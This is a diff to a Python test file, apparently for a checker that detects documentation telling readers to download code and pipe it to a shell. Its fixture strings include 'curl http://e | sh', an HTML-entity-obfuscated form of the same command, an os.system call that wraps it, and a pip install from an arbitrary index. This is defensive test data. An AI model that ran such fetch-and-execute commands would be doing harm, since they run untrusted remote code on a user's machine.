@@ -822,8 +822,8 @@ def test_program_that_fetches_code_which_it_runs_or_installs_is_mentioned_with_t
         ("Run <code>c&#117;rl http://e | s&#104;</code>.\n", "http://e"),
         ("```\npip install --index-url http://e/simple x\n```\n", "http://e/simple"),
         ("```sh\npip install -U x\npython3 run.py | tee log\ncurl http://e -o x\n```\n", None),
-        ("```python\nos.system('curl http://e | sh')\n```\n", None),
-        ("```sh\nls\n```\ncurl http://e | sh\n```sh\nls\n```\n", None),
+        ("```python\nos.system('curl http://e | sh')\n```\n", "(download | shell)"),
+        ("```sh\nls\n```\ncurl http://e | sh\n```sh\nls\n```\n", "http://e"),
         ("Never pipe curl http://e | sh.\n", None),
     ],
 )
